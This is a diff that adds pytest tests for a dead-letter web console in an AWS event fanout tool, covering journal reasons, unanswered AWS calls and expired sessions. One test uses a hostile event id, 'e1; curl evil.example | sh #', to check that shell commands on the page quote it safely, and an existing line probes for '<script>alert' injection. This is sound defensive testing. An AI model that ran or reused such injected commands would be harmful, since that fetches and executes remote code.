@@ -3,13 +3,17 @@
 import html
 import json
 import re
+import shlex
 import threading
 from dataclasses import replace
 
 import pytest
 from starlette.routing import Route as Registered
 
+from fanout.console.shared import Shared
+from fanout.ops.aws.stack import Stack
 from fanout.ops.dead_letters import edit as editing
+from fanout.ops.dead_letters import plain as plain_parts
 from fanout.ops.journal import Journal
 from fanout.ops.redrive.held import held
 from tests.unit.console.dead.given import Browser, plain
@@ -164,6 +168,48 @@ def test_an_edit_that_was_perhaps_sent_says_so_before_it_is_sent_again(
     assert "perhaps sent before, too (a run had no answer): the task skips the same event" in said
 
 
+def test_before_and_after_are_shown_for_a_reason_that_is_in_the_journal(browser: Browser) -> None:
+    browser.world.bury(1)
+    letter, other = "/dead/letter/task/m0", {**event(0), "data": {**event(0)["data"], "items": {"q": "other"}}}
+    refused = browser.post(f"{letter}/check", status=400, event=json.dumps(other))
+    assert "a reason is needed" in refused and "s3cret" not in refused
+    assert "revealed" not in browser.get("/journal")
+    for _ in range(2):
+        assert "s3cret" in browser.post(f"{letter}/check", reason="INC-8", event=json.dumps(other))
+    journal = browser.get("/journal")
+    assert journal.count("INC-8") == 1 and "revealed" in journal
+
+
+@pytest.mark.parametrize(("operation", "is_sent"), [("ReceiveMessage", False), ("SendMessageBatch", True)])
+def test_an_edit_that_aws_does_not_answer_is_there_again_and_says_whether_it_was_perhaps_sent(
+    browser: Browser, operation: str, is_sent: bool
+) -> None:
+    browser.world.bury(1)
+    letter = "/dead/letter/task/m0"
+    browser.post(f"{letter}/edit", reason="INC-8")
+    mended = json.dumps({**event(0), "source": "/shops/rome"})
+    browser.world.sqs.around = answer_lost(operation, {1})
+    page = browser.post(f"{letter}/send", status=400, reason="INC-8", event=mended)
+    assert "AWS did not answer" in page and "/shops/rome" in page and 'value="INC-8"' in page
+    assert ("perhaps sent all the same" in page) == is_sent == bool(browser.world.sent())
+    browser.world.clock.wait(120)
+    said = plain(browser.post(f"{letter}/send", reason="INC-8", event=mended))
+    assert "The edited event was sent as" in said and not browser.world.sqs.queue(browser.world.dead).messages
+
+
+def test_an_edit_whose_session_has_expired_is_there_again(browser: Browser) -> None:
+    def expired() -> Stack:
+        raise refused("ExpiredToken", "DescribeStacks")
+
+    browser.world.bury(1)
+    letter, mended = "/dead/letter/task/m0", json.dumps({**event(0), "source": "/shops/rome"})
+    browser.post(f"{letter}/edit", reason="INC-8")
+    browser.console.find = browser.console.find_to_act = expired
+    browser.console.shared = Shared()  # a minute later
+    page = browser.post(f"{letter}/send", status=400, reason="INC-8", event=mended)
+    assert "have expired" in page and "/shops/rome" in page
+
+
 @pytest.mark.parametrize("character", ["\u00a0", "\u00ad", "\u202e", "\U000e0067"])
 def test_an_edited_text_comes_back_as_it_was_whatever_is_in_it(browser: Browser, character: str) -> None:
     browser.world.bury(1)
@@ -262,6 +308,17 @@ def test_text_of_others_is_text(browser: Browser) -> None:
     pages += browser.post("/dead/letter/task/m1/reveal", reason=HOSTILE) + browser.get("/journal")
     assert "<script>alert" not in pages and "&lt;script&gt;alert" in pages and "49" not in plain(browser.get("/dead"))
     assert "\x1b" not in pages and "\u202e" not in pages
+
+
+def test_the_commands_for_a_shell_are_about_the_letter_whatever_its_event_is_called(
+    browser: Browser, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(plain_parts, "keeps_contract", lambda *_: True)  # one that says nothing of ids
+    hostile = "e1; curl evil.example | sh #"
+    browser.world.sqs.put(browser.world.dead, json.dumps(event(1, id=hostile)), id_="m1")
+    page = browser.until("/dead/letter/task/m1", "A dead letter of task")
+    (command,) = re.findall("<code>(fanout where .*?)</code>", page)
+    assert shlex.split(html.unescape(command)) == ["fanout", "where", hostile, "--stack", "Orders-prod"]
 
 
 @pytest.mark.parametrize("path", ["/dead/runs/none", "/journal/none", "/dead/letter/task/none"])
